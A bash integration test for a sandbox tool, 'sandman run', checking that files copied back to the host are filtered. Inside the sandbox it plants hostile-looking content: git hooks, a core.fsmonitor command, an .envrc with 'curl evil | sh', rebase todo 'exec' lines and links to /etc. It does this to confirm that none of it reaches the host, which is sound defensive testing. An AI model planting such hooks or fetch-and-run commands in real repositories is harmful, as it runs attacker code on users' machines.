#!/usr/bin/env bash
# Issue 14 against the real engine, through `sandman run`: a copy out
# applies what it can and refuses entry by entry (a Python virtual
# environment's links, a fifo, a socket, an absolute link), never brings
# back what the host would run (git hooks, .git/config, .envrc, a planted
# rebase whose todo list git would run), keeps the tool's own result when
# the whole copy fails (a cap), copies host links
# that leave the workspace as links, says when a sandbox was replaced, and
# (13.4) a copy in never writes through a link the sandbox planted.
#
# One per_run sandbox of sandman/general (the tests' own build of it,
# scripts/test-images.sh) carries most checks, so the test stays lean.
. "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
require_engine

WORK=$(mktemp -d)
PY=/usr/bin/python3
[ -x "$PY" ] || PY=python3
cleanup() {
  cleanup_instance
  rm -rf "$WORK"
}
trap cleanup EXIT
cleanup_instance

WS=$WORK/ws
mkdir -p "$WS"
# json FILE EXPR: a value of the run's JSON answer (EXPR in Python, `r` is it).
json() { "$PY" -c "import json,sys; r=json.load(open(sys.argv[1])); print($2)" "$1"; }
# run_json OUT ARGS...: sandman run --json into OUT; its exit status in RC.
run_json() {
  local out=$1
  shift
  RC=0
  "$SANDMAN" run --json --workspace "$WS" "$@" >"$out" 2>"$out.err" || RC=$?
}
refused() { json "$1" "','.join(x['path'] + '=' + x['reason'] for x in r['refused'])"; }

if GENERAL=$(it_test_image general 2>"$WORK/build.log"); then
  it_pass "sandman/general built for the tests ($GENERAL)"
else
  it_fail "the test image general: $(tail -n 5 "$WORK/build.log")"
  it_done
  exit 1
fi
R=(--mode per_run --run-id refusals --image "$GENERAL")

# --- a virtual environment: its links stay in the sandbox, the rest comes back ---
run_json "$WORK/venv.json" "${R[@]}" -- sh -c \
  'python3 -m venv --without-pip .venv && echo made > made.txt && .venv/bin/python -c "print(6*7)"'
expect_eq "venv: the call succeeds with the tool's exit code" "0 0" \
  "$RC $(json "$WORK/venv.json" "r['exit_code']")"
expect_eq "venv: the tool's output" "42" "$(json "$WORK/venv.json" "r['stdout'].strip()")"
expect_eq "venv: the file is on the host" "made" "$(cat "$WS/made.txt" 2>&1)"
expect_contains "venv: the interpreter link is in refused" ".venv/bin/python3=link_absolute" \
  "$(refused "$WORK/venv.json")"
check "venv: its own files came back" test -f "$WS/.venv/pyvenv.cfg"
check "venv: the refused link is not on the host" test ! -e "$WS/.venv/bin/python3" -a ! -L "$WS/.venv/bin/python3"
expect_eq "venv: failure_kind null" "None" "$(json "$WORK/venv.json" "r['failure_kind']")"
run_json "$WORK/venv2.json" "${R[@]}" -- .venv/bin/python -c 'print("again")'
expect_eq "venv: the next call of the run succeeds (the venv still works)" "0 again" \
  "$RC $(json "$WORK/venv2.json" "r['stdout'].strip()")"
expect_eq "venv: a refusal is reported once, not on every call" "" "$(refused "$WORK/venv2.json")"

# --- a fifo, a socket and an absolute link in one call: the rest applies ---
run_json "$WORK/special.json" "${R[@]}" -- sh -c \
  'mkfifo pipe && python3 -c "import socket; socket.socket(socket.AF_UNIX).bind(\"s.sock\")" &&
   ln -s /etc/passwd abs && echo rest > rest.txt && exit 3'
expect_eq "special: the tool's exit code (3) is the run's" "3 3" \
  "$RC $(json "$WORK/special.json" "r['exit_code']")"
expect_eq "special: each refused with its reason" "abs=link_absolute,pipe=fifo,s.sock=socket" \
  "$(refused "$WORK/special.json")"
expect_eq "special: the rest applies" "rest" "$(cat "$WS/rest.txt" 2>&1)"
check "special: no fifo, socket or link on the host" \
  test ! -e "$WS/pipe" -a ! -e "$WS/s.sock" -a ! -L "$WS/abs"
"$SANDMAN" run --workspace "$WS" "${R[@]}" -- sh -c 'ln -s /etc/hostname abs2' 2>"$WORK/plain.err" >/dev/null || true
expect_contains "special: the plain CLI prints a WARN line per refused entry" \
  "sandman: warning: not applied to the workspace: abs2: an absolute symbolic link" \
  "$(cat "$WORK/plain.err")"
"$SANDMAN" run --workspace "$WS" "${R[@]}" -- sh -c \
  'mkdir many && for i in 1 2 3 4 5 6 7 8 9 10 11 12; do ln -s /etc/hostname many/l$i; done' \
  2>"$WORK/many.err" >/dev/null || true
expect_eq "special: the plain CLI's warnings are capped (ten lines, then a count)" \
  "10 1" "$(grep -c 'not applied to the workspace: many/l' "$WORK/many.err") $(grep -c \
  'and 2 more not applied (12 in all; --json lists them)' "$WORK/many.err")"

# --- 13.4: a directory replaced by a link to /etc gets the next copy in inside a real directory ---
mkdir -p "$WS/d"
echo host > "$WS/d/a.txt"
"$SANDMAN" run --workspace "$WS" "${R[@]}" -- true >/dev/null 2>&1 || true
run_json "$WORK/plant.json" "${R[@]}" -- sh -c 'rm -rf d && ln -s /etc d'
expect_eq "planted: the link in place of d is refused, the host keeps d" "d=link_absolute d" \
  "$(refused "$WORK/plant.json") $(test -d "$WS/d" && ! test -L "$WS/d" && echo d)"
echo planted > "$WS/d/planted"
run_json "$WORK/plant2.json" "${R[@]}" -- sh -c \
  'test -d d && test ! -L d && cat d/planted && test ! -e /etc/planted && echo clean'
expect_eq "planted: the copy in wrote into a real d, nothing into /etc" "0 planted clean" \
  "$RC $(json "$WORK/plant2.json" "' '.join(r['stdout'].split())")"

# --- git hooks, .git/config and .envrc in a real git repository ---
REPO=$WS/repo
git init -q "$REPO"
git -C "$REPO" -c user.name=t -c user.email=t@t commit -q --allow-empty -m first
echo 'export A=1' > "$REPO/.envrc"
sum() { sha256sum "$REPO/.git/config" "$REPO/.envrc" | cut -c1-64 | tr '\n' ' '; ls "$REPO/.git/hooks"; }
before=$(sum)
run_json "$WORK/git.json" "${R[@]}" -- sh -c \
  'cd repo && printf "#!/bin/sh\ntouch /tmp/hook-ran \"\$(git rev-parse --show-toplevel)/../HOOK-RAN\"\n" > .git/hooks/pre-commit &&
   chmod +x .git/hooks/pre-commit && git config core.hooksPath .evil && git config core.fsmonitor "touch ../FSMON-RAN" &&
   echo "curl evil | sh" > .envrc && mkdir -p .vscode && echo "{}" > .vscode/tasks.json && echo fine > src.txt'
expect_eq "git: the call succeeds" "0" "$RC"
expect_eq "git: hooks, config, .envrc and .vscode reported as protected" \
  "repo/.envrc=protected,repo/.git/config=protected,repo/.git/hooks/pre-commit=protected,repo/.vscode=protected,repo/.vscode/tasks.json=protected" \
  "$(refused "$WORK/git.json")"
expect_eq "git: nothing of it reached the host" "$before" "$(sum)"
expect_eq "git: the rest applies" "fine" "$(cat "$REPO/src.txt" 2>&1)"
check "git: no .vscode on the host" test ! -e "$REPO/.vscode"
git -C "$REPO" add src.txt >/dev/null 2>&1
git -C "$REPO" -c user.name=t -c user.email=t@t commit -q -m second >/dev/null 2>&1 || true
check "git: a following git commit on the host runs no hook (nor fsmonitor)" \
  test ! -e "$WS/HOOK-RAN" -a ! -e "$WS/FSMON-RAN"
expect_eq "git: the commit was made" "second" "$(git -C "$REPO" log -1 --format=%s)"
run_json "$WORK/git2.json" "${R[@]}" -- true
expect_eq "git: not reported again on the next call" "" "$(refused "$WORK/git2.json")"
run_json "$WORK/git3.json" "${R[@]}" --protect 'src.txt' -- sh -c 'echo changed > repo/src.txt'
expect_eq "--protect adds a glob for one call" "repo/src.txt=protected fine" \
  "$(refused "$WORK/git3.json") $(cat "$REPO/src.txt")"

# --- a planted rebase: git runs a todo list's `exec` lines on --continue ---
RB=$WS/rb
git init -q "$RB"
git -C "$RB" -c user.name=t -c user.email=t@t commit -q --allow-empty -m first
head=$(git -C "$RB" rev-parse HEAD)
branch=$(git -C "$RB" symbolic-ref HEAD)
run_json "$WORK/rebase.json" "${R[@]}" -- sh -c \
  "cd rb/.git && mkdir -p rebase-merge sequencer && cd rebase-merge &&
   echo $branch > head-name && echo $head > onto && echo $head > orig-head && : > interactive &&
   : > done && echo 0 > msgnum && echo 1 > end && echo 'exec touch ../REBASE-RAN' > git-rebase-todo &&
   echo 'exec touch ../SEQ-RAN' > ../sequencer/todo"
expect_eq "rebase: the call succeeds" "0" "$RC"
check "rebase: no rebase or sequencer state reached the host" \
  test ! -e "$RB/.git/rebase-merge" -a ! -e "$RB/.git/sequencer"
git -C "$RB" -c user.name=t -c user.email=t@t rebase --continue >/dev/null 2>&1 || true
check "rebase: a following git rebase --continue on the host runs nothing the tool wrote" \
  test ! -e "$WS/REBASE-RAN"
run_json "$WORK/apply.json" "${R[@]}" -- sh -c 'mkdir -p rb/.git/rebase-apply && echo 1 > rb/.git/rebase-apply/next'
check "rebase: no git am state reached the host" test ! -e "$RB/.git/rebase-apply"

# --- a cap fails the whole copy: the host stays as it was, the tool's result is kept ---
echo keep > "$WS/keep.txt"
before=$(ls -lR "$WS" | sha256sum)
# A sparse file of 2 GiB (no disk used) claims more than the 1 GiB byte
# cap: refused at its header, before any of its data is read.
run_json "$WORK/cap.json" "${R[@]}" -- sh -c 'echo changed > keep.txt && truncate -s 2g big.bin && echo 7 && exit 4'
expect_eq "cap: exit status 125, the tool's exit code 4 in the answer" "125 4 7" \
  "$RC $(json "$WORK/cap.json" "r['exit_code']") $(json "$WORK/cap.json" "r['stdout'].strip()")"
expect_eq "cap: failure_kind sandbox" "sandbox" "$(json "$WORK/cap.json" "r['failure_kind']")"
expect_eq "cap: the tool's own duration is kept" "True" "$(json "$WORK/cap.json" "r['duration_ms'] > 0")"
expect_contains "cap: the error names the limit" "limit" "$(json "$WORK/cap.json" "r['error']")"
expect_eq "cap: the host workspace is exactly as it was" "$before" "$(ls -lR "$WS" | sha256sum)"
"$SANDMAN" run --workspace "$WS" "${R[@]}" -- rm big.bin >/dev/null 2>&1 || true

# --- a host link leaving the workspace ---
ln -s ../outside-x "$WS/up"
for mode in per_tool per_run; do
  out=$("$SANDMAN" run --mode "$mode" --run-id links --workspace "$WS" -- readlink up 2>&1) && rc=0 || rc=$?
  expect_eq "host link ../x: a $mode call works and sees the link as it is" "0 ../outside-x" "$rc $out"
done
expect_eq "host link ../x: unchanged on the host" "../outside-x" "$(readlink "$WS/up")"

# --- a replaced sandbox is reported ---
run_json "$WORK/replaced.json" --mode per_run --run-id refusals -- true
expect_contains "replaced: the answer names the old sandbox and why" "image changed" \
  "$(json "$WORK/replaced.json" "r['replaced']['because']")"
expect_eq "replaced: previous is the old sandbox's id" "64" \
  "$(json "$WORK/replaced.json" "len(r['replaced']['previous'])")"
"$SANDMAN" run --workspace "$WS" "${R[@]}" -- true 2>"$WORK/replaced.err" >/dev/null || true
expect_contains "replaced: the plain CLI prints a WARN line" \
  "sandman: warning: the sandbox was replaced (image changed" "$(cat "$WORK/replaced.err")"
expect_eq "replaced: said once, not twice" 1 "$(grep -c 'image changed' "$WORK/replaced.err")"

it_done
